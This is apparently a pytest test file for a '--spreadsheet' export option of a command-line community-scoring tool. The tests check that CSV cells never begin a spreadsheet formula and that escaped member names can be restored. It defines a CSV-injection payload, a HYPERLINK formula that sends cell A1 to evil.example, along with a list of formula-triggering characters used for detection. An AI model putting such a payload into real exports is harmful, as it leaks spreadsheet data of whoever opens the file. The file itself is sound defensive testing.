# SPDX-License-Identifier: MIT
"""--spreadsheet: tables in which no spreadsheet finds a formula, and from which every name can be had again."""

import csv
import io
import itertools
import json
import random
import unicodedata

import pytest
from conftest import HEADER, TABLES, result, rows

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"me")'

# What the rules of docs/formats.md name, written down anew.
BEGINNINGS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
SEPARATORS = ",;|\t\n\r"

NAMES = [
    EVIL,
    "=1+1",
    "+49 30 1234",
    "-1.5",
    "-x",
    "@here",
    "\t=1",
    " =1",
    "\u00a0=1",
    "\u200b\u3000=1",
    "\uff1d1",
    "'=1",
    "''-1",
    '"=1"',
    "a;=1;-2",
    "a|@x",
    "a\tb",
    "a\n=1",
    "x,=1",
    "plain",
    "o'neill",
    "'quoted'",
    "a-b@c.example",
    "Ärger",
    "semi;colon",
    "=",
]


def is_hidden(character):
    """What a spreadsheet skips, or does not show."""
    blank = unicodedata.category(character) in ("Zs", "Zl", "Zp", "Cc", "Cf")
    return character not in SEPARATORS and (blank or character in "'\"")


def begins_formula(text, whole):
    """Whether a cell that begins with this text would be a formula; whole: it is one of the table."""
    rest = "".join(itertools.dropwhile(is_hidden, text))
    return rest[:1] in tuple(BEGINNINGS + ("\t\n\r" if whole else ""))


def beginnings(text):
    """Where a spreadsheet may begin a cell, by any separator."""
    return [0] + [i + 1 for i, character in enumerate(text) if character in SEPARATORS and i + 1 < len(text)]


def undone(text):
    """As docs/formats.md says."""
    drop = {i for i in beginnings(text) if text[i : i + 1] == "'" and begins_formula(text[i:], i == 0)}
    return "".join(character for i, character in enumerate(text) if i not in drop)


def cells_of(text, separator):
    """Cells as a spreadsheet has them that goes by a separator: a quote counts at the beginning of a cell alone."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def write_names(write, names):
    """An export in which each of them acts, is aimed at, and has a kind that is refused."""
    text = io.StringIO(newline="")
    writer = csv.writer(text, lineterminator="\n")
    for name in names:
        writer.writerow(["2026-02-02", name, "post", "", ""])
        writer.writerow(["2026-02-09", name, name, "", ""])
    write("events.csv", HEADER + text.getvalue())


def members(path):
    with open(path, newline="") as file:
        return [row["member"] for row in csv.DictReader(file)]


@pytest.fixture
def scored(kith, write, tmp_path):
    """The tables of a community of hostile names, without the option and with it."""

    def scored(names):
        write_names(write, names)
        assert kith("score", "--history", "--as-of", "2026-03-20", "--out", "plain", "events.csv").returncode == 1
        made = kith("score", "--history", "--as-of", "2026-03-20", "--spreadsheet", "--out", "safe", "events.csv")
        assert made.returncode == 1
        return tmp_path / "plain", tmp_path / "safe"

    return scored


def test_no_cell_is_a_formula_whatever_the_separator(scored):
    _, safe = scored(NAMES)
    for path in safe.glob("*.csv"):
        for separator in ",;|\t":
            for cell in cells_of(path.read_bytes().decode(), separator):
                assert cell[:1] == "'" or not begins_formula(cell, separator == ","), (path.name, separator, cell)


def test_tables_without_the_option_show_why_it_is_there(scored):
    plain, _ = scored(NAMES)
    cells = cells_of((plain / "standings.csv").read_text(), ",")
    assert EVIL in cells and "-1.5" in cells


def test_names_can_be_had_again(scored):
    plain, safe = scored(NAMES)
    for name in ("standings.csv", "history.csv", "watch.csv"):
        assert members(plain / name) == [undone(member) for member in members(safe / name)]
    assert sorted(set(members(plain / "standings.csv"))) == sorted(NAMES)
    for name in [*TABLES, "history.csv", "watch.csv", "rejects.csv"]:
        before, after = (
            list(csv.reader(io.StringIO((folder / name).read_bytes().decode(), newline=""))) for folder in (plain, safe)
        )
        assert before == [[undone(cell) for cell in row] for row in after]


def test_names_drawn_at_random_can_be_had_again(scored):
    chance = random.Random(7)
    letters = "=+-@';|\"\t\n\r ,ab\u00a0\u200b\uff1d\u2212é"
    names = {"".join(chance.choices(letters, k=chance.randrange(1, 7))) for _ in range(3000)}
    plain, safe = scored(sorted(names))
    before, after = members(plain / "standings.csv"), members(safe / "standings.csv")
    assert len(before) == len(names)
    assert [undone(member) for member in after] == before
    for member in after:
        for at in beginnings(member):
            assert not begins_formula(member[at:], at == 0) or member[at] == "'"


def test_bytes_that_are_not_utf8_are_not_trusted(kith, write, tmp_path):
    write("events.csv", HEADER.encode() + b"2026-02-02,\x81\x811,post,,\n")
    assert kith("score", "--spreadsheet", "events.csv").returncode == 1
    listed = (tmp_path / "kith-out" / "rejects.csv").read_bytes().splitlines()
    assert listed[1] == b"events.csv,2,member,member,\"2026-02-02,'\x81\x811,post,,\""


def test_ordinary_tables_are_the_same(kith, small, tmp_path):
    assert kith("score", "--out", "plain", small).returncode == 0
    assert kith("score", "--spreadsheet", "--out", "safe", small).returncode == 0
    plain, safe = result(tmp_path / "plain"), result(tmp_path / "safe")
    assert {name: safe[name] for name in TABLES} == {name: plain[name] for name in TABLES}


def test_summary_tells_which_tables_they_are(kith, small, tmp_path):
    for arguments, told in (((), False), (("--spreadsheet",), True)):
        assert kith("score", *arguments, small).returncode == 0
        assert json.loads((tmp_path / "kith-out" / "summary.json").read_text())["spreadsheet"] is told


def test_names_of_tiers_are_text_too(kith, small, write, tmp_path):
    policy = kith("policy").out.replace("[tier mentor]", "[tier =1;@x]")
    write("my.ini", policy)
    assert kith("score", "--policy", "my.ini", "--spreadsheet", small).returncode == 0
    assert (tmp_path / "kith-out" / "weeks.csv").read_text().split("\n")[0].endswith(",\"tier_=1;'@x\"")


def test_update_writes_them_too(kith, write, tmp_path):
    write_names(write, NAMES)
    done = kith("update", "--state", "s.kith", "--spreadsheet", "--until", "2026-02-09", "events.csv")
    assert done.returncode == 1
    told = members(tmp_path / "kith-out" / "standings.csv")
    assert sorted(undone(member) for member in told) == sorted(NAMES)
    assert EVIL not in told and "'" + EVIL in told
    assert all(not row.startswith("=") for row in rows(tmp_path / "kith-out" / "rejects.csv"))


@pytest.mark.parametrize("command", [("explain", "ana"), ("calibrate",), ("policy",)])
def test_commands_that_write_no_tables_do_not_take_it(kith, small, command):
    done = kith(command[0], "--spreadsheet", *command[1:], small)
    assert done.returncode == 2
    assert "there is no option '--spreadsheet'" in done.err
